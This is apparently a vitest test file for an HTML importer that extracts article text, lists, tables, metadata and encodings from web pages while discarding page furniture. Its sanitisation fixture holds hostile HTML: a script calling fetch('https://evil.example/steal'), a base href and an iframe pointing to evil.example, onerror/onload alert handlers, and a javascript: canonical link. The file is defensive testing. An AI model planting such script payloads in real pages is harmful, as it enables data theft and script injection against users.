import { describe, expect, it } from 'vitest';
import { AppError } from '../../../shared/ipc/result.ts';
import { DEFAULT_IMPORT_LIMITS } from '../../../electron/services/importers/importer.ts';
import { declaredCharset, importHtml } from '../../../electron/services/importers/html/importHtml.ts';
import { blocks, bytesOf, expectWellFormed } from './documentChecks.ts';

async function read(html: string | Uint8Array, fileName = 'page.html') {
  const doc = await importHtml(
    { fileName, bytes: typeof html === 'string' ? bytesOf(html) : html },
    DEFAULT_IMPORT_LIMITS,
  );
  expectWellFormed(doc);
  return doc;
}

const HOSTILE_PAGE = `<!doctype html>
<html><head><meta charset="utf-8"><title>Council SEND update | Anytown News</title>
  <meta name="Author" content="Anytown Council">
  <link rel="canonical" href="https://example.org/send-update">
  <meta property="og:url" content="https://example.org/og">
  <meta property="article:published_time" content="2024-02-03T10:00:00Z">
  <script>document.title = 'hacked'; fetch('https://evil.example/steal')</script>
  <style>p { color: red } body::after { content: 'STYLED' }</style>
  <base href="https://evil.example/">
</head>
<body onload="alert('onload')">
  <header><a href="/">Anytown News</a><form action="/search"><input name="q" value="Search term"><button>Go</button></form></header>
  <nav><a href="/">Home</a> | <a href="/news">News</a></nav>
  <div role="navigation">Breadcrumb trail</div>
  <aside>Most read: Unrelated story</aside>
  <main>
    <article>
      <header><h1>Council   SEND
        update</h1><p class="byline">By a reporter · Share on social</p></header>
      <p onclick="alert('onclick')">The council agreed <b>joint&nbsp;commissioning</b> &amp; funding &mdash; at last.</p>
      <iframe src="https://evil.example/frame">Iframe fallback</iframe>
      <object data="movie.swf">Object fallback</object><embed src="x.swf">
      <svg><title>Svg title</title><text>Svg text</text></svg>
      <template><p>Template content</p></template>
      <noscript>Enable JavaScript</noscript>
      <div hidden>Secret hidden text</div>
      <p aria-hidden="true">Decorative text</p>
      <p style="display: none">Invisible text</p>
      <h2>What happens next</h2>
      <ul>
        <li>First action
          <ul><li>Nested <em>detail</em><ol><li>Deepest point</li></ol></li></ul>
        </li>
        <li><p>Second action</p><p>with two paragraphs</p></li>
      </ul>
      <table>
        <caption>Waiting times</caption>
        <thead><tr><th>Area</th><th>Wait</th></tr></thead>
        <tbody><tr><td>Speech   therapy</td><td>40 weeks</td></tr><tr><td></td><td></td></tr><tr><td>OT</td><td>12 weeks</td></tr></tbody>
      </table>
      <blockquote><p>Families waited too long.</p></blockquote>
      <p>Line one<br>Line two<br/>  Line three</p>
      <p><img src="x" onerror="alert('onerror')" alt="Chart of waiting times"></p>
      <script>document.write('<p>Injected by script</p>')</script>
      <footer>Tags: SEND, council</footer>
    </article>
  </main>
  <footer>Cookie settings · © Anytown</footer>
  <div role="dialog">Subscribe to our newsletter</div>
</body></html>`;

describe('HTML pages', () => {
  it('keeps the article text and its structure, and nothing that could run or is page furniture', async () => {
    const doc = await read(HOSTILE_PAGE, 'update.html');
    expect(blocks(doc)).toEqual([
      ['heading', 'Council SEND update'],
      ['paragraph', 'The council agreed joint\u00a0commissioning & funding — at last.'],
      ['heading', 'What happens next'],
      ['list-item', 'First action'],
      ['list-item', 'Nested detail'],
      ['list-item', 'Deepest point'],
      ['list-item', 'Second action\nwith two paragraphs'],
      ['paragraph', 'Waiting times'],
      ['table-cell', 'Area'],
      ['table-cell', 'Wait'],
      ['table-cell', 'Speech therapy'],
      ['table-cell', '40 weeks'],
      ['table-cell', 'OT'],
      ['table-cell', '12 weeks'],
      ['paragraph', 'Families waited too long.'],
      ['paragraph', 'Line one\nLine two\nLine three'],
      ['paragraph', 'Chart of waiting times'],
    ]);
    expect(doc.blocks.filter((b) => b.kind === 'list-item').map((b) => b.level)).toEqual([0, 1, 2, 0]);
    expect(doc.blocks[0]!.level).toBe(1);
    expect(doc.blocks[2]!.level).toBe(2);
    // Rows stay rows: cells of a row are tab-separated, rows on their own lines.
    expect(doc.text).toContain('Area\tWait\nSpeech therapy\t40 weeks\nOT\t12 weeks');
    for (const bad of [
      'hacked',
      'evil',
      'alert',
      'onload',
      'onclick',
      'onerror',
      'color: red',
      'STYLED',
      'Home',
      'Breadcrumb',
      'Anytown News',
      'Search term',
      'Go',
      'Most read',
      'By a reporter',
      'Iframe fallback',
      'Object fallback',
      'Svg',
      'Template content',
      'JavaScript',
      'Secret',
      'Decorative',
      'Invisible',
      'Injected',
      'Tags',
      'Cookie',
      'Subscribe',
      '<',
      '>',
    ]) {
      expect(doc.text).not.toContain(bad);
    }
    expect(doc.stated).toEqual({
      title: 'Council SEND update',
      author: 'Anytown Council',
      url: 'https://example.org/send-update',
      publishedOn: '2024-02-03',
    });
  });

  it('reads a page with no <main> or <article> whole, less its furniture, and takes the title from the first h1', async () => {
    const doc = await read(`<body><nav>Menu</nav><h1>Plain page</h1>Loose text <i>here</i>
      <div>First block<div>Inner block</div>tail</div><p>Para &lt;b&gt; with markup shown as text</p><hr><dl><dt>Term</dt><dd>Meaning</dd></dl></body>`);
    expect(blocks(doc)).toEqual([
      ['heading', 'Plain page'],
      ['paragraph', 'Loose text here'],
      ['paragraph', 'First block'],
      ['paragraph', 'Inner block'],
      ['paragraph', 'tail'],
      ['paragraph', 'Para <b> with markup shown as text'],
      ['paragraph', 'Term'],
      ['paragraph', 'Meaning'],
    ]);
    expect(doc.stated).toEqual({ title: 'Plain page' });
  });

  it("leaves out GOV.UK's feedback, print and email furniture inside <main>, and a cookie banner on a page without one", async () => {
    const govuk = await read(`<!doctype html><html><head><title>EHC plans - GOV.UK</title></head><body>
      <div id="global-cookie-message" class="gem-c-cookie-banner govuk-clearfix" role="region" aria-label="Cookies on GOV.UK">
        <h2>Cookies on GOV.UK</h2><p>We use some essential cookies to make this website work.</p></div>
      <main id="main-content"><h1>Children with special educational needs and disabilities (SEND)</h1>
        <div class="gem-c-single-page-notification-button"><p>Get emails about this page</p></div>
        <p>The local authority must tell you within 16 weeks whether an EHC plan is going to be made.</p>
        <div class="gem-c-print-link govuk-!-display-none-print"><p>Print this page</p></div>
        <div class="gem-c-feedback govuk-!-display-none-print" data-module="feedback">
          <h2 class="gem-c-feedback__prompt-question">Is this page useful?</h2>
          <a href="/contact/govuk/problem_reports">Report a problem with this page</a></div>
      </main></body></html>`);
    expect(govuk.text).toBe(
      'Children with special educational needs and disabilities (SEND)\n\n' +
        'The local authority must tell you within 16 weeks whether an EHC plan is going to be made.',
    );
    const blog = await read(`<!doctype html><html><body>
      <div id="cookie-banner"><p>This site uses cookies. Accept all cookies?</p></div>
      <div class="site-cookie-note cookies-consent"><p>We value your privacy.</p></div>
      <h1>Forum news</h1><p>Our survey closes on Friday.</p></body></html>`);
    expect(blog.text).toBe('Forum news\n\nOur survey closes on Friday.');
  });

  it('prefers a lone <article>, and reads a page of several articles whole', async () => {
    const one = await read('<body><div>Sidebar words</div><article><h2>Story</h2><p>Story text</p></article></body>');
    expect(blocks(one)).toEqual([
      ['heading', 'Story'],
      ['paragraph', 'Story text'],
    ]);
    const two = await read(
      '<body><article><p>One</p></article><article><p>Two</p></article><footer>Foot</footer></body>',
    );
    expect(blocks(two)).toEqual([
      ['paragraph', 'One'],
      ['paragraph', 'Two'],
    ]);
  });

  it('falls back to the whole page when <main> is empty (filled in by a script)', async () => {
    const doc = await read('<body><main id="app"></main><div><p>Server-rendered text</p></div></body>');
    expect(blocks(doc)).toEqual([['paragraph', 'Server-rendered text']]);
  });

  it('keeps preformatted text as laid out and reads a layout table as sections', async () => {
    const doc = await read(`<pre>  line 1
    indented   twice
</pre><table><tr><td><h2>Left column</h2><p>Left text</p></td><td><ul><li>Right item</li></ul></td></tr></table>`);
    expect(blocks(doc)).toEqual([
      ['paragraph', 'line 1\n    indented   twice'],
      ['heading', 'Left column'],
      ['paragraph', 'Left text'],
      ['list-item', 'Right item'],
    ]);
  });

  it('takes only web addresses and real dates as metadata', async () => {
    const doc =
      await read(`<head><link rel="canonical" href="/relative"><meta property="og:url" content="https://example.org/page">
      <meta name="date" content="2024-02-30"></head><body><p>Text</p></body>`);
    expect(doc.stated).toEqual({ url: 'https://example.org/page' });
    const script =
      await read(`<head><link rel="canonical" href="javascript:alert(1)"><meta name="dc.date" content="2023-11-05">
      <meta property="article:author" content="https://facebook.com/someone"></head><body><p>Text</p></body>`);
    expect(script.stated).toEqual({ publishedOn: '2023-11-05' });
  });

  it('survives absurd nesting without running out of stack', async () => {
    const depth = 20_000;
    const doc = await read(
      `<body>${'<div>'.repeat(depth)}Deep words${'</div>'.repeat(depth)}${'<ul><li>'.repeat(30)}Deep item${'</li></ul>'.repeat(30)}</body>`,
    );
    expect(doc.text).toContain('Deep words');
    expect(doc.text).toContain('Deep item');
    expect(Math.max(...doc.blocks.map((b) => b.level ?? 0))).toBeLessThanOrEqual(9);
  });
});

describe('HTML encodings', () => {
  it('reads a page that declares Windows-1252 in <meta charset>', async () => {
    const doc = await read(
      bytesOf(
        '<html><head><meta charset="windows-1252"></head><body><p>',
        [0x93, 0x43, 0x61, 0x66, 0xe9, 0x94],
        '</p></body></html>',
      ),
    );
    expect(doc.text).toBe('“Café”');
  });

  it('reads a page that declares ISO-8859-1 the old way, with http-equiv', async () => {
    const page = bytesOf(
      '<meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1"><p>na',
      [0xef],
      've</p>',
    );
    expect(declaredCharset(page)).toBe('ISO-8859-1');
    expect((await read(page)).text).toBe('naïve');
  });

  it('reads an XHTML file by its XML declaration', async () => {
    const page = bytesOf(
      '<?xml version="1.0" encoding="windows-1252"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>caf',
      [0xe9],
      '</p></body></html>',
    );
    expect((await read(page, 'page.xhtml')).text).toBe('café');
  });

  it('lets a byte-order mark win over the declaration, reads UTF-16 pages, and falls back to Windows-1252', async () => {
    expect((await read(bytesOf([0xef, 0xbb, 0xbf], '<meta charset="windows-1252"><p>café</p>'))).text).toBe('café');
    expect((await read(bytesOf([0xff, 0xfe], Buffer.from('<p>“Café”</p>', 'utf16le')))).text).toBe('“Café”');
    expect((await read(bytesOf('<p>caf', [0xe9], ' ', [0x96], ' ok</p>'))).text).toBe('café – ok');
  });

  it('refuses an empty file and binary content renamed .html', async () => {
    for (const [fileName, bytes, message] of [
      ['empty.html', new Uint8Array(0), '"empty.html" is empty.'],
      [
        'image.html',
        bytesOf([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
        '"image.html" does not look like a text file, so it was not imported.',
      ],
    ] as const) {
      const error = await importHtml({ fileName, bytes }, DEFAULT_IMPORT_LIMITS).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(AppError);
      expect((error as AppError).message).toBe(message);
    }
  });
});
